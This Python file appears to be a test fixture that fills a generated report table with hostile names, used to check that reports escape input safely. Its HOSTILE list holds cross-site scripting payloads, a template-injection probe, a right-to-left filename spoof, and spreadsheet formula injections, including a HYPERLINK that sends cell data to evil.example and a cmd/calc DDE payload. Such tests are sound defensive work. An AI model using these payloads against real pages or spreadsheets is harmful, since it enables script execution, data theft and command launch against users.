"""Contents for reports, made in memory: small, and with every name hostile that a person may choose."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np

from compete.reports.contents import Contents
from compete.terms import Terms

HOSTILE = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</style><script>alert(2)</script>",
    "javascript:alert(3)",
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;b&gt; & ]]> --> \x00\x1b[31m\u202egnp.exe",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip


def texts(values: Any) -> np.ndarray[Any, Any]:
    """Values as text cells."""
    return np.array([str(value) for value in values], dtype=object)


def hostile_contents(n: int = 160) -> Contents:
    """A table in which the title, classes, columns, subgroups, ids and cells are hostile."""
    classes = HOSTILE[:4]
    place = np.arange(n)
    terms = Terms(
        name="hostile", title=HOSTILE[0], version=HOSTILE[1], task="classification", target=(HOSTILE[2],), kind="label",
        columns=(HOSTILE[2],), metric="accuracy", classes=classes, description=HOSTILE[6], license=HOSTILE[4],
        authors=HOSTILE, subgroups=(HOSTILE[5], HOSTILE[7]),
    )  # fmt: skip
    return Contents(
        terms=terms,
        parts=("train", "public", "private"),
        part=np.minimum(place % 4, 2),
        ids=texts(f"{HOSTILE[one % 8]}{one}" for one in place),
        known=np.ones(n, dtype=bool),
        target={HOSTILE[2]: texts(classes[one % 4] for one in place)},
        group=place // 2,
        subgroup={
            HOSTILE[5]: texts(HOSTILE[one % 3] for one in place),
            HOSTILE[7]: texts(HOSTILE[3 + one % 5] for one in place),
        },
        column={
            HOSTILE[4]: texts(HOSTILE[one % 8] if one % 9 else "" for one in place),
            HOSTILE[0]: texts(one * 1.5 for one in place),
        },
    )


def written(folder: Path, name: str, page: str) -> Path:
    """A page as a file."""
    path = folder / f"{name}.html"
    path.write_bytes(page.encode())
    return path
